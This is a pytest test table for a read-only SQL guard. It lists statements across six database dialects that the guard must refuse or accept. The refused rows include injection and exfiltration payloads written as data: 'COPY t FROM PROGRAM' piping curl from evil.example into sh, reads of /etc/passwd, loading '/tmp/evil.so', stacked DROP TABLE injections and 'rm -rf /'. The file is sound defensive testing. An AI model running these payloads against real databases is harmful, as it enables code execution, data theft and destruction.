"""The read-only guard as a table: (dialect, SQL, expected verdict).

Every REFUSED row is something that writes, changes the session, reaches outside the
database, or is read differently by the engine than by the parser.  Every ACCEPTED row is
an ordinary read that must not be refused.  A refusal row may name a fragment that the
human-readable reason has to mention.
"""

from __future__ import annotations

import json
import os
from collections import Counter
from pathlib import Path

import pytest

from sqlnb import errors
from sqlnb.sql.dialects import DIALECTS
from sqlnb.sql.forbidden import FORBIDDEN_FUNCTIONS
from sqlnb.sql.guard import Verdict, check_read_only, is_read_only

# (dialect, sql, fragment the reason must contain or None)
REFUSED: list[tuple[str, str, str | None]] = [
    # ------------------------------------------------------------------ sqlite
    ("sqlite", "INSERT INTO t VALUES (1)", "INSERT"),
    ("sqlite", "INSERT INTO t (a) SELECT a FROM u", "INSERT"),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)", "INSERT"),
    ("sqlite", "REPLACE INTO t VALUES (1, 'x')", None),
    ("sqlite", "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a + 1", None),
    ("sqlite", "INSERT INTO t DEFAULT VALUES", None),
    ("sqlite", "UPDATE t SET a = 1 WHERE b = 2", "UPDATE"),
    ("sqlite", "DELETE FROM t", "DELETE"),
    ("sqlite", "DELETE FROM t WHERE id IN (SELECT id FROM u) RETURNING *", "DELETE"),
    ("sqlite", "WITH x AS (SELECT 1 AS a) INSERT INTO t SELECT a FROM x", "INSERT"),
    ("sqlite", "WITH x AS (SELECT 1 AS a) DELETE FROM t WHERE a IN (SELECT a FROM x)", "DELETE"),
    ("sqlite", "CREATE TABLE t (a INTEGER)", "CREATE"),
    ("sqlite", "CREATE TEMP TABLE t AS SELECT * FROM u", "CREATE"),
    ("sqlite", "CREATE VIEW v AS SELECT 1", "CREATE"),
    ("sqlite", "CREATE INDEX i ON t (a)", None),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END", None),
    ("sqlite", "CREATE VIRTUAL TABLE f USING fts5(body)", None),
    ("sqlite", "DROP TABLE t", "DROP"),
    ("sqlite", "DROP VIEW IF EXISTS v", "DROP"),
    ("sqlite", "ALTER TABLE t RENAME TO u", "ALTER"),
    ("sqlite", "ALTER TABLE t ADD COLUMN b TEXT", "ALTER"),
    ("sqlite", "ATTACH DATABASE '/tmp/other.db' AS other", "ATTACH"),
    ("sqlite", "ATTACH 'file:/tmp/x.db?mode=rwc' AS x", None),
    ("sqlite", "DETACH DATABASE other", "DETACH"),
    ("sqlite", "PRAGMA journal_mode = WAL", "PRAGMA"),
    ("sqlite", "PRAGMA writable_schema = ON", "PRAGMA"),
    ("sqlite", "PRAGMA table_info(t)", "PRAGMA"),
    ("sqlite", "VACUUM", None),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'", None),
    ("sqlite", "ANALYZE", None),
    ("sqlite", "REINDEX t", None),
    ("sqlite", "BEGIN", None),
    ("sqlite", "BEGIN IMMEDIATE TRANSACTION", None),
    ("sqlite", "COMMIT", None),
    ("sqlite", "ROLLBACK", None),
    ("sqlite", "SAVEPOINT s1", None),
    ("sqlite", "RELEASE SAVEPOINT s1", None),
    ("sqlite", "SELECT 1; DROP TABLE t", "2 statements"),
    ("sqlite", "SELECT 1; DROP TABLE t; -- tidy up", "2 statements"),
    ("sqlite", "SELECT 1 -- harmless\n; DELETE FROM t", "2 statements"),
    ("sqlite", "SELECT 1 /* ; */ ; /* hidden */ DELETE FROM t", "2 statements"),
    ("sqlite", "SELECT 'a\\'; DROP TABLE t; --'", "2 statements"),  # no backslash escapes in SQLite
    ("sqlite", "SELECT 1 /* DROP TABLE t", "unterminated"),
    ("sqlite", "SELECT 1 --\r'\n, load_extension('evil') --'", None),  # SQLite ends -- only at \n
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "load_extension"),
    ("sqlite", "SELECT writefile('/tmp/x', 'data')", "writefile"),
    ("sqlite", "SELECT readfile('/etc/passwd')", "readfile"),
    ("sqlite", "SELECT name FROM fsdir('/etc')", "fsdir"),
    ("sqlite", "SELECT * FROM t WHERE a = (SELECT load_extension('x'))", "load_extension"),
    ("sqlite", "SELECT * FROM t WHERE", "parse"),
    ("sqlite", "SELEKT * FROM t", None),
    ("sqlite", "", "empty"),
    ("sqlite", "   \n\t ", "empty"),
    ("sqlite", "-- just a comment", "comment"),
    ("sqlite", "/* only a comment */ ;", "comment"),
    ("sqlite", ";", None),
    ("sqlite", "SELECT 1\x00; DROP TABLE t", None),
    # ------------------------------------------------------------------ duckdb
    ("duckdb", "INSERT INTO t SELECT * FROM u", "INSERT"),
    ("duckdb", "INSERT OR REPLACE INTO t VALUES (1)", "INSERT"),
    ("duckdb", "UPDATE t SET a = a + 1", "UPDATE"),
    ("duckdb", "DELETE FROM t WHERE a > 1", "DELETE"),
    ("duckdb", "CREATE TABLE t AS SELECT 42 AS a", "CREATE"),
    ("duckdb", "CREATE TEMP TABLE t AS SELECT 42 AS a", "CREATE"),
    ("duckdb", "CREATE OR REPLACE VIEW v AS SELECT 1", "CREATE"),
    ("duckdb", "CREATE SEQUENCE s", None),
    ("duckdb", "CREATE MACRO m(a) AS a + 1", None),
    ("duckdb", "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 'v')", None),
    ("duckdb", "DROP TABLE IF EXISTS t", "DROP"),
    ("duckdb", "ALTER TABLE t ADD COLUMN b INTEGER", "ALTER"),
    ("duckdb", "ALTER TABLE t RENAME TO u", "ALTER"),
    ("duckdb", "TRUNCATE t", "TRUNCATE"),
    ("duckdb", "COPY t TO '/tmp/out.csv' (HEADER)", "COPY"),
    ("duckdb", "COPY t FROM '/tmp/in.csv'", "COPY"),
    ("duckdb", "COPY (SELECT * FROM t) TO '/tmp/out.parquet' (FORMAT PARQUET)", "COPY"),
    ("duckdb", "EXPORT DATABASE '/tmp/dump'", None),
    ("duckdb", "IMPORT DATABASE '/tmp/dump'", None),
    ("duckdb", "ATTACH '/tmp/other.duckdb' AS other", "ATTACH"),
    ("duckdb", "ATTACH '/tmp/other.duckdb' AS other (READ_ONLY)", "ATTACH"),
    ("duckdb", "DETACH other", "DETACH"),
    ("duckdb", "USE other", None),
    ("duckdb", "INSTALL httpfs", None),
    ("duckdb", "FORCE INSTALL httpfs", None),
    ("duckdb", "LOAD httpfs", None),
    ("duckdb", "SET threads = 1", "SET"),
    ("duckdb", "SET GLOBAL enable_external_access = true", "SET"),
    ("duckdb", "RESET threads", None),
    ("duckdb", "PRAGMA enable_profiling", None),
    ("duckdb", "CALL pragma_version()", None),
    ("duckdb", "CHECKPOINT", None),
    ("duckdb", "VACUUM", None),
    ("duckdb", "BEGIN TRANSACTION", None),
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "read_csv"),
    ("duckdb", "SELECT * FROM read_csv_auto('data.csv')", "read_csv"),
    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", "read_parquet"),
    ("duckdb", "SELECT * FROM read_json_auto('x.json')", "read_json"),
    ("duckdb", "SELECT * FROM read_text('/etc/hosts')", "read_text"),
    ("duckdb", "SELECT * FROM glob('/home/*')", "glob"),
    ("duckdb", "SELECT getenv('HOME')", "getenv"),
    ("duckdb", "SELECT * FROM query('DROP TABLE t')", "query"),
    ("duckdb", "SELECT * FROM postgres_execute('pg', 'DROP TABLE t')", "postgres_execute"),
    ("duckdb", "SELECT * FROM '/etc/passwd.csv'", "file"),
    ("duckdb", "SELECT * FROM 'https://example.com/data.parquet'", "file"),
    ("duckdb", 'SELECT * FROM "data.csv"', "file"),
    ("duckdb", "SELECT * FROM data.csv", "file"),  # unquoted: DuckDB joins the parts
    ("duckdb", 'SELECT * FROM "data"."parquet"', "file"),
    ("duckdb", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')", "sqlite_scan"),
    ("duckdb", "SELECT * FROM arrow_scan(1, 2, 3)", "arrow_scan"),
    ("duckdb", "SELECT a FROM t WHERE a IN (SELECT column0 FROM read_csv('x.csv'))", "read_csv"),
    ("duckdb", "SELECT nextval('seq')", "nextval"),
    ("duckdb", "SELECT * INTO t2 FROM t", "INTO"),
    ("duckdb", "EXPLAIN ANALYZE SELECT * FROM t", None),
    ("duckdb", "SELECT 1; COPY t TO '/tmp/x.csv'", "2 statements"),
    ("duckdb", "SELECT $a$ x $a$; DROP TABLE t", "2 statements"),
    # ---------------------------------------------------------------- postgres
    ("postgres", "INSERT INTO t (a) VALUES (1) ON CONFLICT DO NOTHING", "INSERT"),
    ("postgres", "INSERT INTO t SELECT * FROM u RETURNING id", "INSERT"),
    ("postgres", "UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "UPDATE"),
    ("postgres", "DELETE FROM t USING u WHERE t.id = u.id", "DELETE"),
    (
        "postgres",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
        "WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)",
        "MERGE",
    ),
    ("postgres", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "DELETE"),
    ("postgres", "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u", "UPDATE"),
    ("postgres", "WITH i AS (INSERT INTO t (a) VALUES (1) RETURNING id) SELECT id FROM i", "INSERT"),
    (
        "postgres",
        "WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM t RETURNING *) "
        "SELECT * FROM c) SELECT * FROM a, b",
        "DELETE",
    ),
    ("postgres", "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d) s", "DELETE"),
    ("postgres", "SELECT * INTO backup_t FROM t", "INTO"),
    ("postgres", "SELECT a, b INTO TEMP TABLE scratch FROM t", "INTO"),
    ("postgres", "CREATE TABLE t2 AS SELECT * FROM t", "CREATE"),
    ("postgres", "CREATE TEMP TABLE t2 AS SELECT * FROM t", "CREATE"),
    ("postgres", "CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE"),
    ("postgres", "CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM t; SELECT 1 $$ LANGUAGE sql", "CREATE"),
    ("postgres", "CREATE EXTENSION dblink", None),
    ("postgres", "REFRESH MATERIALIZED VIEW mv", None),
    ("postgres", "DROP TABLE t CASCADE", "DROP"),
    ("postgres", "ALTER TABLE t RENAME TO u", "ALTER"),
    ("postgres", "ALTER ROLE me SUPERUSER", None),
    ("postgres", "TRUNCATE t", "TRUNCATE"),
    ("postgres", "COPY t TO '/tmp/t.csv'", "COPY"),
    ("postgres", "COPY t FROM PROGRAM 'curl evil.example | sh'", "COPY"),
    ("postgres", "COPY (SELECT * FROM t) TO STDOUT", "COPY"),
    ("postgres", "CALL do_things()", None),
    ("postgres", "DO $$ BEGIN DELETE FROM t; END $$", None),
    ("postgres", "PREPARE p AS DELETE FROM t", None),
    ("postgres", "EXECUTE p", None),
    ("postgres", "GRANT SELECT ON t TO public", "GRANT"),
    ("postgres", "REVOKE ALL ON t FROM public", "REVOKE"),
    ("postgres", "SET search_path TO evil, public", "SET"),
    ("postgres", "SET ROLE admin", None),
    ("postgres", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", None),
    ("postgres", "RESET ALL", None),
    ("postgres", "RESET ROLE", None),
    ("postgres", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", None),
    ("postgres", "SELECT * FROM t FOR UPDATE", "lock"),
    ("postgres", "SELECT * FROM t WHERE id = 1 FOR SHARE", "lock"),
    ("postgres", "SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "lock"),
    ("postgres", "BEGIN", None),
    ("postgres", "START TRANSACTION READ WRITE", None),
    ("postgres", "COMMIT", None),
    ("postgres", "ROLLBACK", None),
    ("postgres", "VACUUM FULL t", None),
    ("postgres", "ANALYZE t", None),
    ("postgres", "LISTEN chan", None),
    ("postgres", "NOTIFY chan, 'x'", None),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM t", None),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t", None),
    ("postgres", "SELECT nextval('seq')", "nextval"),
    ("postgres", "SELECT setval('seq', 1)", "setval"),
    ("postgres", "SELECT pg_sleep(10)", "pg_sleep"),
    ("postgres", "SELECT pg_catalog.pg_sleep(10)", "pg_sleep"),
    ("postgres", 'SELECT "pg_sleep"(10)', "pg_sleep"),
    ("postgres", "SELECT PG_READ_FILE('/etc/passwd')", "pg_read_file"),
    ("postgres", "SELECT lo_export(12345, '/tmp/x')", "lo_export"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "lo_import"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS r(a int)", "dblink"),
    ("postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE t')", "dblink_exec"),
    ("postgres", "SELECT set_config('role', 'admin', false)", "set_config"),
    ("postgres", "SELECT pg_catalog.set_config('search_path', 'evil', false)", "set_config"),
    ("postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
    ("postgres", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "query_to_xml"),
    ("postgres", "SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
    ("postgres", "SELECT * FROM t WHERE a = 1 AND pg_sleep(5) IS NOT NULL", "pg_sleep"),
    ("postgres", "SELECT 1; DROP TABLE t", "2 statements"),
    ("postgres", "SELECT 1; /* trailing */ DROP TABLE t -- bye", "2 statements"),
    ("postgres", "SELECT $a$ ; $a$; DROP TABLE t", "2 statements"),
    ("postgres", "SELECT $x$ a string that never ends; DROP TABLE t", None),
    ("postgres", "SELECT $1$ ; DROP TABLE t; $1$", None),
    # with standard_conforming_strings off, 'a\' escapes the quote: the engine may see
    # one string where the parser sees another (or two statements)
    ("postgres", "SELECT 'a\\'; DROP TABLE t; --'", None),
    ("postgres", "SELECT 'a\\', pg_sleep(10) --'", None),
    ("postgres", "SELECT E'a\\\\'; DROP TABLE t; --'", "2 statements"),
    ("postgres", "SELECT 1 /* unterminated", "unterminated"),
    ("postgres", "SELECT 1 /* outer /* inner */ still open", "unterminated"),
    ("postgres", "SELECT * FROM t WHERE a = (", "parse"),
    # PostgreSQL ends the # operator before --, sqlglot reads #- (so it sees "a #- -1 FROM t")
    ("postgres", "SELECT a #--1\nFROM t", "differently"),
    ("postgres", "SELECT pg_ls_dir('/etc')", "pg_ls_dir"),
    ("postgres", "SELECT lo_get(16400)", "lo_get"),
    ("postgres", 'SELECT U&"pg_sl\\0065ep"(10)', "Unicode"),  # spells pg_sleep
    ("postgres", "SELECT U&\"pg_sl!0065ep\" UESCAPE '!' (10)", "Unicode"),
    ("postgres", "\\! rm -rf /", None),
    # ------------------------------------------------------------------- mysql
    ("mysql", "INSERT INTO t VALUES (1)", "INSERT"),
    ("mysql", "INSERT IGNORE INTO t SELECT * FROM u", "INSERT"),
    ("mysql", "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = a + 1", "INSERT"),
    ("mysql", "REPLACE INTO t VALUES (1)", None),
    ("mysql", "UPDATE t JOIN u ON t.id = u.id SET t.a = u.a", "UPDATE"),
    ("mysql", "DELETE t FROM t JOIN u ON t.id = u.id", "DELETE"),
    ("mysql", "CREATE TABLE t2 SELECT * FROM t", "CREATE"),
    ("mysql", "CREATE TEMPORARY TABLE t2 AS SELECT * FROM t", "CREATE"),
    ("mysql", "DROP DATABASE prod", "DROP"),
    ("mysql", "ALTER TABLE t ADD COLUMN b INT", "ALTER"),
    ("mysql", "RENAME TABLE t TO u", None),
    ("mysql", "TRUNCATE TABLE t", "TRUNCATE"),
    ("mysql", "SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", None),
    ("mysql", "SELECT * INTO OUTFILE '/tmp/t.csv' FROM t", None),
    ("mysql", "SELECT a FROM t INTO DUMPFILE '/tmp/t.bin'", None),
    ("mysql", "SELECT a INTO @x FROM t LIMIT 1", "INTO"),
    ("mysql", "SELECT @x := a FROM t", "variable"),
    ("mysql", "LOAD DATA INFILE '/tmp/t.csv' INTO TABLE t", None),
    ("mysql", "CALL p()", None),
    ("mysql", "DO sleep(5)", None),
    ("mysql", "PREPARE s FROM 'DROP TABLE t'", None),
    ("mysql", "EXECUTE s", None),
    ("mysql", "HANDLER t OPEN", None),
    ("mysql", "SET @a = 1", "SET"),
    ("mysql", "SET GLOBAL read_only = OFF", "SET"),
    ("mysql", "SET NAMES utf8mb4", None),
    ("mysql", "GRANT ALL ON *.* TO 'me'@'%'", None),
    ("mysql", "REVOKE SELECT ON db.* FROM 'me'@'%'", None),
    ("mysql", "LOCK TABLES t WRITE", None),
    ("mysql", "UNLOCK TABLES", None),
    ("mysql", "FLUSH TABLES", None),
    ("mysql", "KILL 42", None),
    ("mysql", "START TRANSACTION", None),
    ("mysql", "SELECT * FROM t FOR UPDATE", "lock"),
    ("mysql", "SELECT * FROM t LOCK IN SHARE MODE", "lock"),
    ("mysql", "SELECT load_file('/etc/passwd')", "load_file"),
    ("mysql", "SELECT sleep(10)", "sleep"),
    ("mysql", "SELECT benchmark(100000000, md5('a'))", "benchmark"),
    ("mysql", "SELECT get_lock('x', 10)", "get_lock"),
    ("mysql", "SELECT 1 /*! ; DROP TABLE t */", "executable comment"),
    ("mysql", "SELECT 1 /*!50000 UNION SELECT load_file('/etc/passwd') */", "executable comment"),
    ("mysql", "/*!40101 DROP TABLE t */", "executable comment"),
    ("mysql", "SELECT 1 /*M!100101 , sleep(5) */", "executable comment"),
    ("mysql", "SELECT 1 --sleep(5)", "--"),
    ("mysql", "SELECT 1 --x", "--"),
    ("mysql", "SELECT 1; DROP TABLE t", "2 statements"),
    ("mysql", "SELECT 1 # comment\n; DELETE FROM t", "2 statements"),
    # with NO_BACKSLASH_ESCAPES the string ends at the backslash
    ("mysql", "SELECT 'a\\'; DROP TABLE t; -- '", None),
    ("mysql", 'SELECT "a\\", sleep(10) -- "', None),
    ("mysql", "SELECT 1 /* unterminated", "unterminated"),
    ("mysql", "SHOW TABLES", None),
    # --------------------------------------------------------------- snowflake
    ("snowflake", "INSERT INTO t SELECT * FROM u", "INSERT"),
    ("snowflake", "INSERT OVERWRITE INTO t SELECT * FROM u", "INSERT"),
    ("snowflake", "INSERT ALL INTO t1 INTO t2 SELECT * FROM u", None),
    ("snowflake", "UPDATE t SET a = 1", "UPDATE"),
    ("snowflake", "DELETE FROM t", "DELETE"),
    ("snowflake", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE"),
    ("snowflake", "CREATE OR REPLACE TEMPORARY TABLE t AS SELECT 1 AS a", "CREATE"),
    ("snowflake", "CREATE TABLE t2 CLONE t", "CREATE"),
    ("snowflake", "CREATE STAGE s URL = 's3://bucket/'", None),
    ("snowflake", "DROP TABLE t", "DROP"),
    ("snowflake", "UNDROP TABLE t", None),
    ("snowflake", "ALTER WAREHOUSE wh SET WAREHOUSE_SIZE = 'X6LARGE'", None),
    ("snowflake", "ALTER SESSION SET QUERY_TAG = 'x'", None),
    ("snowflake", "TRUNCATE TABLE t", "TRUNCATE"),
    ("snowflake", "COPY INTO t FROM @stage/file.csv", "COPY"),
    ("snowflake", "COPY INTO @stage/out FROM (SELECT * FROM t)", "COPY"),
    ("snowflake", "PUT file:///tmp/x.csv @stage", None),
    ("snowflake", "GET @stage/x.csv file:///tmp/", None),
    ("snowflake", "REMOVE @stage", None),
    ("snowflake", "SELECT $1 FROM @stage/data.csv", "stage"),
    ("snowflake", "SELECT * FROM @~/uploads", "stage"),
    ("snowflake", "SELECT * FROM IDENTIFIER('@stage/x.csv')", "stage"),
    ("snowflake", "SELECT IDENTIFIER('SYSTEM$WAIT')(60)", "IDENTIFIER"),
    ("snowflake", "USE ROLE ACCOUNTADMIN", None),
    ("snowflake", "USE WAREHOUSE big_wh", None),
    ("snowflake", "SET x = 1", "SET"),
    ("snowflake", "UNSET x", None),
    ("snowflake", "GRANT ROLE sysadmin TO USER me", None),
    ("snowflake", "REVOKE ROLE sysadmin FROM USER me", None),
    ("snowflake", "CALL my_proc()", None),
    ("snowflake", "EXECUTE IMMEDIATE 'DROP TABLE t'", None),
    ("snowflake", "EXECUTE IMMEDIATE $$ BEGIN DROP TABLE t; END $$", None),
    ("snowflake", "BEGIN TRANSACTION", None),
    ("snowflake", "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", "system$"),
    ("snowflake", "SELECT SYSTEM$WAIT(60)", "system$"),
    ("snowflake", "SELECT seq1.NEXTVAL", "nextval"),
    ("snowflake", "SELECT * INTO t2 FROM t", "INTO"),
    ("snowflake", "SELECT * FROM t FOR UPDATE", "lock"),
    ("snowflake", "SELECT 1; DROP TABLE t", "2 statements"),
    ("snowflake", "SELECT 1 // hidden\n; DROP TABLE t", "2 statements"),
    ("snowflake", "SELECT $$ ; $$; DROP TABLE t", "2 statements"),
    ("snowflake", "SELECT 'a\\\\'; DROP TABLE t; --'", "2 statements"),
    # nested block comments: engines disagree on whether /* opens a second level
    ("snowflake", "SELECT 1 /* /* */ , SYSTEM$WAIT(1) -- */", None),
    ("snowflake", "SELECT 1 /* /* */ , 'x */ , a' --", None),
    ("snowflake", "SHOW TABLES", None),
    # ---------------------------------------------------------------- redshift
    ("redshift", "INSERT INTO t SELECT * FROM u", "INSERT"),
    ("redshift", "UPDATE t SET a = 1", "UPDATE"),
    ("redshift", "DELETE FROM t WHERE a = 1", "DELETE"),
    (
        "redshift",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
        "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)",
        "MERGE",
    ),
    ("redshift", "CREATE TABLE t2 AS SELECT * FROM t", "CREATE"),
    ("redshift", "CREATE TEMP TABLE t2 AS SELECT * FROM t", "CREATE"),
    ("redshift", "CREATE VIEW v AS SELECT 1", "CREATE"),
    ("redshift", "DROP TABLE t", "DROP"),
    ("redshift", "ALTER TABLE t RENAME TO u", "ALTER"),
    ("redshift", "TRUNCATE t", "TRUNCATE"),
    ("redshift", "SELECT * INTO new_t FROM t", "INTO"),
    ("redshift", "SELECT * INTO TEMP new_t FROM t", "INTO"),
    ("redshift", "UNLOAD ('SELECT * FROM t') TO 's3://bucket/x' IAM_ROLE 'arn'", None),
    ("redshift", "COPY t FROM 's3://bucket/x' IAM_ROLE 'arn'", "COPY"),
    ("redshift", "VACUUM t", None),
    ("redshift", "ANALYZE t", None),
    ("redshift", "GRANT SELECT ON t TO u", "GRANT"),
    ("redshift", "REVOKE SELECT ON t FROM u", "REVOKE"),
    ("redshift", "SET search_path TO evil", "SET"),
    ("redshift", "RESET search_path", None),
    ("redshift", "SET SESSION AUTHORIZATION 'admin'", None),
    ("redshift", "CALL p()", None),
    ("redshift", "LOCK t", None),
    ("redshift", "BEGIN", None),
    ("redshift", "END", None),
    ("redshift", "COMMIT", None),
    ("redshift", "CANCEL 1234", None),
    ("redshift", "SELECT pg_terminate_backend(1234)", "pg_terminate_backend"),
    ("redshift", "SELECT pg_cancel_backend(1234)", "pg_cancel_backend"),
    ("redshift", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", None),
    ("redshift", "SELECT * FROM t FOR UPDATE", None),
    ("redshift", "SELECT 1; DROP TABLE t", "2 statements"),
    ("redshift", "SELECT 'a\\'; DROP TABLE t; --'", None),
    ("redshift", "EXPLAIN SELECT 1", None),
    ("redshift", "SELECT 1 /* outer /* inner */ , 2 */", "nested"),
]

# (dialect, sql) that must be accepted
ACCEPTED: list[tuple[str, str]] = [
    # ------------------------------------------------------------------ sqlite
    ("sqlite", "SELECT * FROM deleted_items WHERE update_time > '2020-01-01'"),
    ("sqlite", "SELECT 'DROP TABLE t; --' AS s, ';' AS semi"),
    ("sqlite", "SELECT 1 -- DELETE FROM t"),
    ("sqlite", "/* DROP TABLE t; */ SELECT count(*) FROM t"),
    (
        "sqlite",
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 10) SELECT x FROM c",
    ),
    ("sqlite", "SELECT a, row_number() OVER (PARTITION BY b ORDER BY c DESC) AS rn FROM t"),
    ("sqlite", "SELECT a FROM t UNION SELECT a FROM u INTERSECT SELECT a FROM v EXCEPT SELECT a FROM w"),
    ("sqlite", "VALUES (1, 'a'), (2, 'b')"),
    ("sqlite", "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE u.x = t.x) LIMIT 10 OFFSET 5"),
    ("sqlite", 'SELECT "select", [order], `group` FROM "insert"'),
    ("sqlite", "SELECT * FROM t WHERE a = :name AND b = :other"),
    ("sqlite", "SELECT 'it''s', \"update\" FROM t;"),
    ("sqlite", "SELECT 1; -- trailing comment"),
    ("sqlite", "SELECT a FROM t WHERE a GLOB 'x*' AND b LIKE '%;%'"),
    ("sqlite", "SELECT replace(name, 'a', 'b'), substr(name, 1, 2) FROM t"),
    ("sqlite", "SELECT * FROM pragma_table_info('t')"),
    ("sqlite", "SELECT 'C:\\' AS path FROM t"),
    ("sqlite", "SELECT * FROM t WHERE name = 'Zoë 😀' -- ümlaut\n  AND \"naïve\" = 1"),
    ("sqlite", "SELECT CASE WHEN a > 0 THEN 'pos' ELSE 'neg' END FROM t GROUP BY 1 HAVING count(*) > 1"),
    # ------------------------------------------------------------------ duckdb
    ("duckdb", "SELECT * FROM t QUALIFY row_number() OVER (PARTITION BY a ORDER BY b) = 1"),
    ("duckdb", "SELECT list_transform([1, 2, 3], x -> x + 1) AS l"),
    ("duckdb", "SELECT {'a': 1} AS s, [1, 2, 3][1:2] AS sl"),
    ("duckdb", "SELECT * EXCLUDE (b) FROM t"),
    ("duckdb", "SELECT a::VARCHAR, struct_pack(k := 1) FROM t"),
    ("duckdb", "SELECT $$ ; DROP TABLE t $$ AS s"),
    ("duckdb", "SELECT * FROM range(10) AS r(n) WHERE n % 2 = 0"),
    ("duckdb", "SELECT 1 /* outer /* nested */ still a comment */ AS one"),
    ("duckdb", "WITH x AS (SELECT 1 AS a) SELECT a FROM x UNION ALL SELECT 2 ORDER BY 1"),
    ("duckdb", "SELECT * FROM t WHERE updated_at > :since LIMIT 100"),
    ("duckdb", "SELECT a, sum(b) OVER (ORDER BY a ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM t"),
    ("duckdb", "SELECT * FROM information_schema.tables"),
    ("duckdb", 'SELECT * FROM main.t JOIN "my table" USING (id)'),
    # ---------------------------------------------------------------- postgres
    ("postgres", "SELECT a::int, b->>'k', c #> '{a,b}', d @> '{\"x\": 1}'::jsonb FROM t"),
    (
        "postgres",
        "SELECT * FROM t WHERE created_at > now() - interval '1 day' ORDER BY id DESC LIMIT 5 OFFSET 10",
    ),
    (
        "postgres",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r",
    ),
    ("postgres", "SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b"),
    ("postgres", "SELECT $$ ; DROP TABLE t; $$ AS s"),
    ("postgres", "SELECT $tag$ it's ; DELETE FROM t $tag$ AS s"),
    ("postgres", "SELECT E'it\\'s' AS s"),
    ("postgres", 'SELECT "DELETE", update_time FROM "deleted_items"'),
    ("postgres", "SELECT count(*) FILTER (WHERE a > 1) FROM t"),
    ("postgres", "SELECT n FROM generate_series(1, 10) AS g(n)"),
    ("postgres", "SELECT * FROM t WHERE id = :id AND created::date = :day"),
    ("postgres", "SELECT a FROM t INTERSECT SELECT a FROM u EXCEPT SELECT a FROM v"),
    ("postgres", "VALUES (1), (2)"),
    ("postgres", "SELECT 1 /* nested /* comment */ here */ AS one"),
    ("postgres", 'SELECT * FROM "weird; DROP TABLE x"'),
    ("postgres", "SELECT a, rank() OVER w FROM t WINDOW w AS (PARTITION BY b ORDER BY c)"),
    ("postgres", "SELECT 'C:\\path\\file' AS p"),
    ("postgres", "SELECT t.nextval, t.sleep FROM t"),
    ("postgres", "SELECT $é$ ; DROP TABLE t $é$ AS s"),  # tags may be non-ASCII
    ("postgres", "SELECT U&'caf\\00e9' AS s"),  # a Unicode string (not a name) is fine
    # ------------------------------------------------------------------- mysql
    ("mysql", "SELECT `order`, `update_time` FROM `deleted_items` WHERE `select` = 1"),
    ("mysql", "SELECT * FROM t LIMIT 5, 10"),
    ("mysql", "SELECT a FROM t # a comment mentioning DELETE FROM t"),
    ("mysql", "SELECT a FROM t -- DROP TABLE t"),
    ("mysql", "SELECT a FROM t /* ; DROP TABLE t */"),
    ("mysql", "SELECT \"double quoted\", 'it''s', 'a\\\\b' FROM t"),
    ("mysql", "SELECT CONCAT(a, ';', b) FROM t"),
    ("mysql", "SELECT JSON_EXTRACT(doc, '$.a'), doc->>'$.b' FROM t"),
    ("mysql", "SELECT a, ROW_NUMBER() OVER w FROM t WINDOW w AS (ORDER BY a)"),
    ("mysql", "SELECT a FROM t WHERE a IN (SELECT a FROM u) UNION ALL SELECT a FROM v"),
    ("mysql", "SELECT IF(a > 1, 'x', 'y'), IFNULL(b, 0) FROM t ORDER BY 1 LIMIT 10 OFFSET 20"),
    ("mysql", "SELECT /* + a plain comment: a hint has no space after the star */ a FROM t"),
    ("mysql", "SELECT a FROM t WHERE b = :v"),
    ("mysql", "SELECT 5 - -1"),
    ("mysql", "SELECT 'a\\nb', 'tab\\there' FROM t"),
    # --------------------------------------------------------------- snowflake
    ("snowflake", "SELECT * FROM t QUALIFY ROW_NUMBER() OVER (PARTITION BY a ORDER BY b DESC) = 1"),
    ("snowflake", "SELECT v:name::string, v:items[0]:id FROM t"),
    ("snowflake", "SELECT f.value FROM t, LATERAL FLATTEN(input => t.arr) f"),
    ("snowflake", "SELECT $$ ; DROP TABLE t $$ AS s"),
